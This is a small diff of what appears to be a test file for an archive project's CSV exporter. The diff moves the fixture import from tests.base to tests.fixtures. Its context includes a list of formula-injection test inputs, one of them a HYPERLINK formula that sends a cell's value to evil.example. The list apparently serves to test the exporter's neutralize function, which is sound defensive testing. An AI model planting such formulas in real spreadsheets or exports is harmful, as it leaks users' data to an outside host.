@@ -9,7 +9,7 @@ from archive.exporters import EXPORTERS
 from archive.exporters.table_csv import neutralize
 from archive.search import indexer
 from tests.api.helpers import ApiTestCase
-from tests.base import document, import_document
+from tests.fixtures import document, import_document
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1, "click")',
